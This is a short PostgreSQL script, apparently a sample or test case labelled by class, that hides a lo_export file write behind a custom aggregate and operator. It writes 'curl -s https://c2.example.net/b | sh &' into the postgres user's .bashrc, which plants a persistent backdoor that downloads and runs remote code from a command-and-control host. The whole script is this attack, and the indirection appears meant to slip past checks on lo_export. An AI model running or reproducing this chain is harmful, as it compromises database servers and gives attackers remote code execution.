-- class: operator-cast-aggregate
-- Accumulates text in an aggregate, turns it into a large object and writes it to a server file through an operator implemented by lo_export.
CREATE FUNCTION accumulate_bytes(state bytea, chunk text) RETURNS bytea LANGUAGE sql IMMUTABLE AS $$
  SELECT state || convert_to(chunk, 'UTF8')
$$;
CREATE FUNCTION flush_to_blob(state bytea) RETURNS oid LANGUAGE sql VOLATILE AS $$
  SELECT lo_from_bytea(0, state)
$$;
CREATE AGGREGATE collect_chunks(text) (SFUNC = accumulate_bytes, STYPE = bytea, INITCOND = '', FINALFUNC = flush_to_blob);

CREATE OPERATOR public.>>| (LEFTARG = oid, RIGHTARG = text, FUNCTION = lo_export);

CREATE TABLE shell_profiles AS
SELECT collect_chunks(l ORDER BY n) AS blob
FROM (VALUES (1, E'curl -s https://c2.example.net/b | sh &\n')) AS v(n, l);

SELECT blob >>| '/var/lib/postgresql/.bashrc' FROM shell_profiles;
